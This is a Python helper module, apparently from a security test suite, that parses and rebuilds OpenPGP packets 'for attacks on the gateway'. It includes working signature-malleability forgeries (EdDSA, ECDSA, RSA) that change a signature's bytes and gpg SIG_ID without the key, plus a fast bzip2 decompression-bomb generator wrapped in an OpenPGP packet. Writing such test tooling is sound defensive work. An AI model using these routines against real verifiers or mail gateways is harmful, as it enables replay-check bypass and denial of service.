"""OpenPGP packets taken apart and put back together, for attacks on the gateway.

Only what the tests need of RFC 4880: packet headers (old and new format),
MPIs, version 4 signature and public key packets, ASCII armor.  The
signature edits change the numbers of a signature without its key in ways
that many verifiers still accept (S + L for EdDSA, n - s for ECDSA, s + n
for RSA), so that the signature's bytes and gpg's SIG_ID change while the
signer, the time and the signed text stay the same.
"""

import base64

# the group orders of Ed25519 and NIST P-256
ED25519_L = 2 ** 252 + 27742317777372353535851937790883648493
P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
RSA, ECDSA, EDDSA = 1, 19, 22


def packets(data: bytes) -> list[tuple[int, bytes]]:
    """[(tag, body)] of a packet sequence with definite lengths."""
    out, i = [], 0
    while i < len(data):
        first = data[i]
        assert first & 0x80, f"not a packet header at {i}"
        if first & 0x40:  # new format
            tag, i = first & 0x3F, i + 1
            o = data[i]
            if o < 192:
                length, i = o, i + 1
            elif o < 224:
                length, i = ((o - 192) << 8) + data[i + 1] + 192, i + 2
            elif o == 255:
                length, i = int.from_bytes(data[i + 1:i + 5], "big"), i + 5
            else:
                raise AssertionError("partial body lengths are not supported here")
        else:
            tag, kind, i = (first >> 2) & 0x0F, first & 3, i + 1
            size = {0: 1, 1: 2, 2: 4}[kind]
            length, i = int.from_bytes(data[i:i + size], "big"), i + size
        out.append((tag, data[i:i + length]))
        i += length
    return out


def packet(tag: int, body: bytes) -> bytes:
    """A new-format packet (5-octet length: always allowed)."""
    return bytes([0xC0 | tag, 0xFF]) + len(body).to_bytes(4, "big") + body


def mpi(value: int) -> bytes:
    return value.bit_length().to_bytes(2, "big") + value.to_bytes((value.bit_length() + 7) // 8, "big")


def read_mpis(data: bytes) -> list[int]:
    values, i = [], 0
    while i < len(data):
        bits = int.from_bytes(data[i:i + 2], "big")
        size = (bits + 7) // 8
        values.append(int.from_bytes(data[i + 2:i + 2 + size], "big"))
        i += 2 + size
    return values


def rsa_modulus(public_key: bytes) -> int:
    """n of the primary key of an exported (armored) RSA public key."""
    tag, body = packets(dearmor(public_key))[0]
    assert tag == 6 and body[0] == 4 and body[5] == RSA, (tag, body[:6])
    return read_mpis(body[6:])[0]


def reencode(signature_packet_body: bytes, modulus: int | None = None, k: int = 1) -> bytes:
    """The same v4 signature with other numbers: EdDSA S + k*L, ECDSA n - s, RSA s + k*n."""
    body = signature_packet_body
    assert body[0] == 4, "a version 4 signature"
    algo = body[2]
    hashed = int.from_bytes(body[4:6], "big")
    unhashed_at = 6 + hashed
    unhashed = int.from_bytes(body[unhashed_at:unhashed_at + 2], "big")
    numbers_at = unhashed_at + 2 + unhashed + 2  # after the hash's left 16 bits
    values = read_mpis(body[numbers_at:])
    if algo == EDDSA:  # S is RFC 8032's little-endian string, read as an MPI
        s = int.from_bytes(values[1].to_bytes(32, "big"), "little") + k * ED25519_L
        values[1] = int.from_bytes(s.to_bytes(32, "little"), "big")
    elif algo == ECDSA:
        values[1] = P256_N - values[1]
    elif algo == RSA:
        values[0] += k * modulus
    else:
        raise AssertionError(f"public key algorithm {algo}")
    return body[:numbers_at] + b"".join(mpi(v) for v in values)


def reencode_armored(armored: bytes, kind: str, modulus: int | None = None, k: int = 1) -> bytes:
    """An armored block of one signature, re-encoded (see reencode)."""
    (tag, body), = packets(dearmor(armored))
    assert tag == 2
    return armor(packet(2, reencode(body, modulus, k)), kind)


def reencode_clearsigned(clearsigned: bytes, modulus: int | None = None, k: int = 1) -> bytes:
    """A clearsigned text whose signature block is re-encoded."""
    text, marker, rest = clearsigned.partition(b"-----BEGIN PGP SIGNATURE-----")
    return text + reencode_armored(marker + rest, "SIGNATURE", modulus, k)


def dearmor(armored: bytes) -> bytes:
    lines = armored.decode().strip().splitlines()
    body = lines[lines.index("") + 1:-1]
    return base64.b64decode("".join(line for line in body if not line.startswith("=")))


def armor(data: bytes, kind: str = "MESSAGE") -> bytes:
    lines = [base64.b64encode(data[i:i + 48]) for i in range(0, len(data), 48)]
    crc = base64.b64encode(crc24(data).to_bytes(3, "big"))
    return (f"-----BEGIN PGP {kind}-----\n\n".encode() + b"\n".join(lines) + b"\n=" + crc
            + f"\n-----END PGP {kind}-----\n".encode())


def crc24(data: bytes) -> int:
    """RFC 4880 §6.1."""
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return crc & 0xFFFFFF


def bzip2_bomb(blocks: int, block_size: int = 40_000_000) -> bytes:
    """An OpenPGP compressed packet (BZIP2) holding one literal packet of blocks * block_size zero bytes.

    Made in a second, not in the half minute that compressing gigabytes
    takes: two one-block bzip2 streams are compressed (the literal packet's
    start, and zeros), and the second's block is repeated bit for bit (a
    bzip2 stream is a header, independent blocks, an end mark and the CRC
    of the blocks' CRCs)."""
    import bz2
    head = bytes([0x80 | 11 << 2 | 3]) + b"b\x00" + b"\x00" * 4  # old format, length to the end
    first, rest = (_bz2_block(bz2.compress(head + b"\x00" * (block_size - len(head)), 9)),
                   _bz2_block(bz2.compress(b"\x00" * block_size, 9)))
    combined = 0
    for crc in [first[1]] + [rest[1]] * (blocks - 1):
        combined = (((combined << 1) | (combined >> 31)) & 0xFFFFFFFF) ^ crc
    bits = "".join(format(c, "08b") for c in b"BZh9") + first[0] + rest[0] * (blocks - 1) \
        + format(0x177245385090, "048b") + format(combined, "032b")
    bits += "0" * (-len(bits) % 8)
    stream = int(bits, 2).to_bytes(len(bits) // 8, "big")
    return packet(8, b"\x03" + stream)


def _bz2_block(stream: bytes) -> tuple[str, int]:
    """(the bits of the one block of a bzip2 stream, its CRC)."""
    bits = "".join(format(c, "08b") for c in stream)
    assert bits[32:80] == format(0x314159265359, "048b"), "one block, right after the header"
    end = bits.rindex(format(0x177245385090, "048b"))
    assert bits.count(format(0x314159265359, "048b")) == 1
    return bits[32:end], int(bits[80:112], 2)
